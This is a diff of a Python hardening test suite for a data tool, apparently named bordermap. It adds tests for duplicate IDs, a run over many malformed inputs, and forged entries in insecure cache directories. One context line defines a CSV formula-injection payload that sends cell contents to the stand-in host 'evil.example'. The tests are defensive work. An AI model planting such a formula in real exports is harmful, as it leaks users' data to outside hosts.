@@ -258,6 +258,46 @@ def identical(tmp: Path) -> tuple[str, str, bool]:
     return "nothing mixed or lost", f"{len({x.digest for x in got})} partition digests; each row from its own file", ok
 
 
+@case("duplicate id across two files (whole run)")
+def dup_across(tmp: Path) -> tuple[str, str, bool]:
+    src = tmp / "in"
+    src.mkdir()
+    jsonl(src / "a.jsonl", [{"id": "x", "date": "2021-07-01", "text": TEXT}])
+    jsonl(src / "b.jsonl", [{"id": "x", "date": "2021-07-02", "text": TEXT + " Again."}, {"id": "y", "text": TEXT}])
+    proc = cli("corpus", str(src), "--out", str(tmp / "out"), "--workers", "1", "--partition-size", "1")
+    with open(tmp / "out" / "rejected.csv", encoding="utf-8") as fh:
+        rows = list(csv.DictReader(fh))
+    info = json.loads((tmp / "out" / "corpus.json").read_text(encoding="utf-8"))
+    ok = proc.returncode == 0 and info["articles"] == 2 and [r["reason"][:12] for r in rows] == ["duplicate id"]
+    return (
+        "rejected alone",
+        f"rc {proc.returncode}; {info['articles']} articles; " + (rows[0]["reason"] if rows else "-"),
+        ok,
+    )
+
+
+@case("corpus run over every bad input at once")
+def all_at_once(tmp: Path) -> tuple[str, str, bool]:
+    src = tmp / "in"
+    src.mkdir()
+    deep = b'{"id": "deep", "text": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
+    jsonl(src / "a.jsonl", [{"id": "a1", "date": "2021-07-01", "text": TEXT}, deep, {"id": True, "text": TEXT}])
+    jsonl(src / "b.jsonl", [{"id": "a1", "text": TEXT}, {"id": "b1", "date": "20210712", "text": TEXT}])
+    _parquet(src / "c.parquet", ["p1", "far"], [18_809, 10**8])
+    os.mkfifo(src / "fifo.csv")
+    (src / "zero.jsonl").symlink_to("/dev/zero")
+    (src / "junk.parquet").write_bytes(b"PAR1 not parquet")
+    with deadline(300):
+        proc = cli("corpus", str(src), "--out", str(tmp / "out"), "--workers", "1", "--partition-size", "2")
+    info = json.loads((tmp / "out" / "corpus.json").read_text(encoding="utf-8")) if proc.returncode == 0 else {}
+    ok = proc.returncode == 0 and info.get("articles") == 2 and info.get("rejected") == 8
+    return (
+        "rejected alone",
+        f"rc {proc.returncode}; {info.get('articles')} articles, {info.get('rejected')} rejected",
+        ok,
+    )
+
+
 # --------------------------------------------------------------------------- CSV formulas (item 2)
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -386,21 +426,34 @@ def corpus_rename_fails(tmp: Path) -> tuple[str, str, bool]:
 # --------------------------------------------------------------------------- cache trust (item 5)
 
 
-@case("forged pair entry in a world-writable cache")
-def forged_entry(tmp: Path) -> tuple[str, str, bool]:
-    from bordermap._cache import cache_dir
-    from tests.test_hardening_caches import _border_km, _forge_pair_entry
+def _forged(how: str) -> Case:
+    def run(tmp: Path) -> tuple[str, str, bool]:
+        from bordermap._cache import cache_dir
+        from tests.test_hardening_caches import _border_km, _forge_pair_entry
 
-    cache = tmp / "cache"
-    cache.mkdir()
-    for entry in cache_dir().iterdir():
-        if entry.suffix not in (".pkl", ".npz") and entry.name not in ("assets", "nominatim"):
-            (cache / entry.name).symlink_to(entry)
-    forged = _forge_pair_entry(cache)
-    os.chmod(cache, 0o777)
-    km, warned = _border_km(cache, tmp / "out")
-    ok = forged == 1.0 and abs(km - 671.8) < 0.5 and len(warned) == 1
-    return "rejected alone", f"forged {forged} km, report says {km} km; {len(warned)} warning line", ok
+        cache = tmp / "cache"
+        cache.mkdir()
+        for entry in cache_dir().iterdir():
+            if entry.suffix not in (".pkl", ".npz") and entry.name not in ("assets", "nominatim"):
+                (cache / entry.name).symlink_to(entry)
+        forged = _forge_pair_entry(cache)
+        if how == "another user's":
+            os.chown(cache, 12345, -1)
+        else:
+            os.chmod(cache, 0o777 if how == "world-writable" else 0o775)
+        km, warned = _border_km(cache, tmp / "out")
+        ok = forged == 1.0 and abs(km - 671.8) < 0.5 and len(warned) == 1
+        return "rejected alone", f"forged {forged} km, report says {km} km; {len(warned)} warning line", ok
+
+    return run
+
+
+for _how, _where in (
+    ("world-writable", "a world-writable cache"),
+    ("group-writable", "a group-writable cache"),
+    ("another user's", "another user's cache"),
+):
+    case(f"forged pair entry in {_where}")(_forged(_how))
 
 
 # --------------------------------------------------------------------------- parameters (item 6)
